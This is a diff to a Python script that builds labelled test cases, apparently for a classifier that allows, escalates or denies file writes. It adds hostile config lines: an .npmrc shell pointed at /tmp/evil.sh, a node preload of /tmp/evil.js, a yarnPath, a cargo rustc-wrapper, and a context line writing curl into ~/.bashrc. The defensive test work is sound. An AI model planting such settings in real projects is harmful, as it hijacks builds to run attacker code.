@@ -340,6 +340,16 @@ PHP("destructive", "deny", "file_put_contents(getenv('HOME').'/.bashrc', 'curl h
     "getenv('HOME') joined to .bashrc")
 PHP("safe", "allow", "file_put_contents('var/cache.txt', 'ok');", "a write inside the project")
 
+# ---- tool config that names a program the tool runs ----------------------------------------
+W("risky", "escalate", ".npmrc", "script-shell=/tmp/evil.sh\n", "every npm run goes through this shell")
+W("safe", "allow", ".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n", "an ordinary .npmrc")
+W("risky", "escalate", ".npmrc", "node-options=--require /tmp/evil.js\n", "every node that npm starts preloads the module")
+W("safe", "allow", ".npmrc", "node-options=--max-old-space-size=4096\n", "a memory limit for node")
+W("risky", "escalate", ".yarnrc.yml", "yarnPath: /tmp/yarn-evil.cjs\n", "yarn runs the file named as itself")
+W("safe", "allow", ".yarnrc.yml", "nodeLinker: node-modules\n", "an ordinary .yarnrc.yml")
+W("risky", "escalate", ".cargo/config.toml", "[build]\nrustc-wrapper = \"/tmp/evil\"\n", "cargo runs every rustc through the wrapper")
+W("safe", "allow", ".cargo/config.toml", "[build]\njobs = 4\n", "an ordinary cargo config")
+
 with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "content2.jsonl"), "w") as f:
     for r in rows:
         f.write(json.dumps(r) + "\n")
